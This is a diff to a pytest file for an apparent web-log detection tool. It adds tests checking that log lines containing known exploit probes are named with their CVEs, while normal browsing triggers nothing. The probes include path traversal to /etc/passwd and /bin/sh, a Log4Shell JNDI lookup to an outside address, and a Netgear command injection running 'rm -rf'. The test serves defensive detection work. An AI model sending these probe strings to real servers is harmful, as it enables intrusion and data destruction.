@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from support.logs import fired, line, run, severity
+from support.logs import BROWSER, fired, line, run, severity
 
 # rule id: (threshold, spacing in seconds that fits the window, one matching line maker)
 CASES = {
@@ -148,3 +148,41 @@ def test_a_burst_of_server_errors_is_a_site_finding() -> None:
     assert len(bursts) == 1
     assert bursts[0]["errors"] == 40 and bursts[0]["severity"] == "high"
     assert run(calm).site_findings["bursts"] == []
+
+
+@pytest.mark.parametrize(
+    ("path", "agent", "cve"),
+    [
+        ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", BROWSER, "CVE-2021-41773"),
+        ("/cgi-bin/.%%32%65/.%%32%65/.%%32%65/bin/sh", BROWSER, "CVE-2021-42013"),
+        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", BROWSER, "CVE-2017-9841"),
+        ("/_ignition/execute-solution", BROWSER, "CVE-2021-3129"),
+        ("/", "${jndi:ldap://198.51.100.9:1389/a}", "CVE-2021-44228"),
+        ("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", BROWSER,
+         "CVE-2018-13379"),
+        ("/ssl-vpn/hipreport.esp", BROWSER, "CVE-2024-3400"),
+        ("/vpn/../vpns/cfg/smb.conf", BROWSER, "CVE-2019-19781"),
+        ("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp", BROWSER, "CVE-2020-5902"),
+        ("/developmentserver/metadatauploader", BROWSER, "CVE-2025-31324"),
+        ("/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%29%29%7D/", BROWSER,
+         "CVE-2022-26134"),
+        ("/autodiscover/autodiscover.json?@zdi/Powershell", BROWSER, "CVE-2021-34473"),
+        ("/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", BROWSER,
+         "CVE-2020-25213"),
+        ("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*", BROWSER, "Netgear"),
+    ],
+)  # fmt: skip
+def test_a_known_exploit_is_named_with_its_cve_in_the_evidence(
+    path: str, agent: str, cve: str
+) -> None:
+    analysis = run(line(0, path, agent=agent, status=404))
+
+    detection = analysis.detector.offenders["203.0.113.7"].detections["cve-probe"]
+    assert cve in detection.reason
+
+
+def test_a_browser_visiting_pages_is_never_a_known_exploit() -> None:
+    pages = ("/", "/berita?page=2", "/cgi-bin/jadwal", "/wp-content/uploads/2024/05/foto.jpg")
+    text = "".join(line(i, path, agent=BROWSER) for i, path in enumerate(pages))
+
+    assert fired(run(text)) == {}
